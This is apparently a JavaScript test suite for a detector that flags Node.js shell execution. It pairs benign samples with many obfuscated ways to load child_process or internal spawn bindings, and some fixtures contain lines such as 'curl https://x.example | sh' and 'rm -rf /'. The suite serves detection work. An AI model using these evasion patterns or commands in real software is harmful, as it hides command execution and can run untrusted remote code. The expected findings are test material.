import { testCapability } from '../helpers/capability-tester.js';

testCapability('shell', {
  valid: [
    // Internal bindings that spawn nothing.
    "safer.kStringMaxLength = process.binding('buffer').kStringMaxLength",
    "const { HTTPParser } = process.binding('http_parser')",
    "const re = /a(b)/;\nre.exec('abc')",
    "const m = /^v(\\d+)/.exec(process.version)",
    "function exec(cmd) { return cmd }\nexec('rm -rf /')",
    "const spawn = (x) => x;\nspawn('ls')",
    "db.exec('SELECT 1'); sqlite.prepare(q).run(); shell.exec('ls')",
    "const { exec } = tools;\nexec('ls')",
    "const name = 'child_process';\nlog(`child_process: ${name}`)",
    'JSON.stringify({ exec: 1, spawn: 2, child_process: 3 })',
    { code: "const execa = require('execa');\nexeca('ls')", module: 'cjs', imports: ['execa'] },
    { code: "require('shelljs').exec('ls'); require('cross-spawn')('ls')", module: 'cjs', imports: ['cross-spawn', 'shelljs'] },
    { code: "const { exec } = require('./child_process');\nexec('ls')", module: 'cjs' },
    { code: "(function (require) { require('child_process') })(fakeRequire)", module: 'cjs' },
    { code: "import { execa } from 'execa';\nawait execa('ls')", module: 'esm' },
    { code: "import { type ChildProcess } from 'node:child_process';\nexport let child = null", module: 'esm' },
  ],
  invalid: [
    {
      code: "const cp = require('child_process');\ncp.exec('ls')",
      module: 'cjs',
      findings: [
        { line: 1, column: 12, api: 'child_process', confidence: 'high' },
        { line: 2, column: 1, api: 'child_process.exec', confidence: 'high' },
      ],
    },
    {
      code: "const { exec: run } = require('node:child_process');\nrun('curl x | sh')",
      module: 'cjs',
      findings: [
        { line: 1, column: 23, api: 'child_process', confidence: 'high' },
        { line: 2, column: 1, api: 'child_process.exec', confidence: 'high' },
      ],
    },
    {
      code: "const spawn = require('child_process').spawn;\nspawn('sh', ['-c', cmd])",
      module: 'cjs',
      findings: [
        { line: 1, column: 15, api: 'child_process' },
        { line: 1, column: 15, api: 'child_process.spawn', confidence: 'high' },
        { line: 2, column: 1, api: 'child_process.spawn', confidence: 'high' },
      ],
    },
    {
      code: "require('child_process').execSync('whoami')",
      module: 'cjs',
      findings: [
        { line: 1, column: 1, api: 'child_process' },
        { line: 1, column: 1, api: 'child_process.execSync' },
      ],
    },
    {
      code: "import { exec } from 'child_process';\nexec('curl https://x.example | sh')",
      module: 'esm',
      findings: [
        { line: 1, column: 1, api: 'child_process', confidence: 'high' },
        { line: 2, column: 1, api: 'child_process.exec', confidence: 'high' },
      ],
    },
    {
      code: "import cp from 'node:child_process';\nconst { spawnSync } = cp;\nspawnSync('id')",
      module: 'esm',
      findings: [
        { line: 1, column: 1, api: 'child_process' },
        { line: 3, column: 1, api: 'child_process.spawnSync', confidence: 'high' },
      ],
    },
    {
      code: "import * as cp from 'child_process';\ncp.fork('./worker.js')",
      module: 'esm',
      findings: [
        { line: 1, column: 1, api: 'child_process' },
        { line: 2, column: 1, api: 'child_process.fork' },
      ],
    },
    { code: "export { execFile } from 'child_process'", module: 'esm', findings: [{ line: 1, column: 1, api: 'child_process' }] },
    {
      code: "const { exec } = await import('node:child_process');\nexec(cmd)",
      module: 'esm',
      findings: [
        { line: 1, column: 24, api: 'child_process', confidence: 'high' },
        { line: 2, column: 1, api: 'child_process.exec', confidence: 'high' },
      ],
    },
    {
      code: "const { default: cp } = await import('node:child_process');\ncp.exec('ls')",
      module: 'esm',
      findings: [
        { line: 1, column: 31, api: 'child_process', confidence: 'high' },
        { line: 2, column: 1, api: 'child_process.exec', confidence: 'high' },
      ],
    },
    {
      code: "var cp;\ncp = require('child_process');\ncp.execFile('sh')",
      module: 'cjs',
      findings: [
        { line: 2, column: 6, api: 'child_process', confidence: 'high' },
        { line: 3, column: 1, api: 'child_process.execFile', confidence: 'medium' },
      ],
    },
    {
      code: "function run(cmd, cp = require('child_process')) { return cp.execSync(cmd) }",
      module: 'cjs',
      findings: [
        { line: 1, column: 24, api: 'child_process' },
        { line: 1, column: 59, api: 'child_process.execSync' },
      ],
    },
    {
      code: "const cp = require('child_process');\ncp['exec']('ls')",
      module: 'cjs',
      evasion: 'computed member',
      findings: [
        { line: 1, column: 12, api: 'child_process' },
        { line: 2, column: 1, api: 'child_process.exec', confidence: 'medium' },
      ],
    },
    {
      code: "const cp = require('child_process');\ncp['ex' + 'ec']('ls')",
      module: 'cjs',
      evasion: 'concatenated member',
      findings: [
        { line: 1, column: 12, api: 'child_process' },
        { line: 2, column: 1, api: 'child_process.exec', confidence: 'medium' },
      ],
    },
    {
      code: "const c = require('child_' + 'process');\nc.spawn('sh')",
      module: 'cjs',
      evasion: 'concatenated specifier',
      findings: [
        { line: 1, column: 11, api: 'child_process', confidence: 'medium' },
        { line: 2, column: 1, api: 'child_process.spawn', confidence: 'medium' },
      ],
    },
    {
      code: "const r = require;\nr('child_process').exec('ls')",
      module: 'cjs',
      evasion: 'require aliased through a variable',
      findings: [
        { line: 2, column: 1, api: 'child_process', confidence: 'medium' },
        { line: 2, column: 1, api: 'child_process.exec', confidence: 'medium' },
      ],
    },
    {
      code: "let r;\nr = require;\nr('child_process')",
      module: 'cjs',
      evasion: 're-assignment chain',
      findings: [{ line: 3, column: 1, api: 'child_process', confidence: 'medium' }],
    },
    {
      code: "module.require('child_process').exec('ls')",
      module: 'cjs',
      evasion: 'module.require',
      findings: [
        { line: 1, column: 1, api: 'child_process', confidence: 'medium' },
        { line: 1, column: 1, api: 'child_process.exec', confidence: 'medium' },
      ],
    },
    {
      code: "process.mainModule.require('child_process').execSync('id')",
      module: 'cjs',
      evasion: 'process.mainModule.require',
      findings: [
        { line: 1, column: 1, api: 'child_process', confidence: 'medium' },
        { line: 1, column: 1, api: 'child_process.execSync', confidence: 'medium' },
      ],
    },
    {
      code: "const load = globalThis['req' + 'uire'];\nload('child_process').exec(x)",
      module: 'cjs',
      evasion: "globalThis['req'+'uire']",
      findings: [
        { line: 2, column: 1, api: 'child_process', confidence: 'medium' },
        { line: 2, column: 1, api: 'child_process.exec', confidence: 'medium' },
      ],
    },
    {
      code: "require(Buffer.from('6368696c645f70726f63657373', 'hex').toString())",
      module: 'cjs',
      evasion: 'hex-decoded specifier',
      findings: [{ line: 1, column: 1, api: 'child_process', confidence: 'medium' }],
    },
    {
      code: "const cp = require(Buffer.from('Y2hpbGRfcHJvY2Vzcw==', 'base64').toString());\ncp.exec(cmd)",
      module: 'cjs',
      evasion: 'base64-decoded specifier',
      findings: [
        { line: 1, column: 12, api: 'child_process', confidence: 'medium' },
        { line: 2, column: 1, api: 'child_process.exec', confidence: 'medium' },
      ],
    },
    {
      code: 'require(String.fromCharCode(99, 104, 105, 108, 100, 95, 112, 114, 111, 99, 101, 115, 115))',
      module: 'cjs',
      evasion: 'char-code specifier',
      findings: [{ line: 1, column: 1, api: 'child_process', confidence: 'medium' }],
    },
    {
      code: "require(atob('Y2hpbGRfcHJvY2Vzcw=='))",
      module: 'cjs',
      evasion: 'atob specifier',
      findings: [{ line: 1, column: 1, api: 'child_process', confidence: 'medium' }],
    },
    {
      code: "require('ssecorp_dlihc'.split('').reverse().join(''))",
      module: 'cjs',
      evasion: 'reversed string',
      findings: [{ line: 1, column: 1, api: 'child_process', confidence: 'medium' }],
    },
    {
      code: "const { ['ex' + 'ecSync']: go } = require('child_process');\ngo('id')",
      module: 'cjs',
      evasion: 'destructuring with a computed key',
      findings: [
        { line: 1, column: 35, api: 'child_process', confidence: 'high' },
        { line: 2, column: 1, api: 'child_process.execSync', confidence: 'medium' },
      ],
    },
    {
      code: "!function (e) { e('child_process').exec('ls') }(require)",
      module: 'cjs',
      evasion: 'require passed to a minified IIFE',
      findings: [
        { line: 1, column: 17, api: 'child_process', confidence: 'medium' },
        { line: 1, column: 17, api: 'child_process.exec', confidence: 'medium' },
      ],
    },
    {
      code: "const { createRequire } = require('node:module');\ncreateRequire(__filename)('child_process').spawn('sh')",
      module: 'cjs',
      evasion: 'createRequire(…)(…)',
      findings: [
        { line: 2, column: 1, api: 'child_process', confidence: 'medium' },
        { line: 2, column: 1, api: 'child_process.spawn', confidence: 'medium' },
      ],
    },
    {
      code: "import('node:' + 'child_process').then((cp) => cp.exec('ls'))",
      evasion: 'concatenated dynamic import',
      findings: [{ line: 1, column: 1, api: 'child_process', confidence: 'medium' }],
    },
    {
      code: "const cp = __importStar(require('child_process'));\ncp.exec('ls')",
      module: 'cjs',
      evasion: 'TypeScript interop helper',
      findings: [
        { line: 1, column: 25, api: 'child_process', confidence: 'high' },
        { line: 2, column: 1, api: 'child_process.exec', confidence: 'high' },
      ],
    },
    {
      code: "require.apply(null, ['child_process']).exec('ls')",
      module: 'cjs',
      evasion: 'require.apply',
      findings: [
        { line: 1, column: 1, api: 'child_process', confidence: 'medium' },
        { line: 1, column: 1, api: 'child_process.exec', confidence: 'medium' },
      ],
    },
    {
      code: "require('module')._load('child_process')",
      module: 'cjs',
      evasion: 'Module._load',
      findings: [{ line: 1, column: 1, api: 'child_process', confidence: 'medium' }],
    },
    {
      code: "const r = process.binding('spawn_sync').spawn({ file: 'sh', args: ['sh', '-c', cmd] })",
      evasion: 'internal binding instead of child_process',
      findings: [
        { line: 1, column: 11, api: "process.binding('spawn_sync')", confidence: 'high' },
        { line: 1, column: 11, api: "process.binding('spawn_sync').spawn", confidence: 'high' },
      ],
    },
    {
      code: "const { Process } = process.binding('process_wrap');\nnew Process().spawn(options)",
      evasion: 'internal binding, destructured',
      findings: [
        { line: 1, column: 21, api: "process.binding('process_wrap')", confidence: 'high' },
        { line: 2, column: 5, api: "process.binding('process_wrap').Process", confidence: 'high' },
      ],
    },
    {
      code: "const load = process['bind' + 'ing'];\nconst sync = load('spawn' + '_sync');\nsync.spawn(options)",
      evasion: 'binding loader aliased, computed key, concatenated name',
      findings: [
        { line: 2, column: 14, api: "process.binding('spawn_sync')", confidence: 'medium' },
        { line: 3, column: 1, api: "process.binding('spawn_sync').spawn", confidence: 'medium' },
      ],
    },
    {
      code: "(function (p) { return p.binding('spawn_sync') })(process)",
      evasion: 'process passed to an IIFE',
      findings: [{ line: 1, column: 24, api: "process.binding('spawn_sync')", confidence: 'medium' }],
    },
    {
      code: "process.binding.call(process, 'spawn_sync')",
      evasion: 'binding loader invoked through .call',
      findings: [{ line: 1, column: 1, api: "process.binding('spawn_sync')", confidence: 'medium' }],
    },
    {
      code: "process.binding('process_methods').execve('/bin/sh', ['sh'], env)",
      findings: [{ line: 1, column: 1, api: "process.binding('process_methods').execve", confidence: 'high' }],
    },
    {
      code: "import process from 'node:process';\nprocess.binding('spawn_sync')",
      module: 'esm',
      evasion: 'binding loader of the imported process module',
      findings: [{ line: 2, column: 1, api: "process.binding('spawn_sync')", confidence: 'high' }],
    },
  ],
});
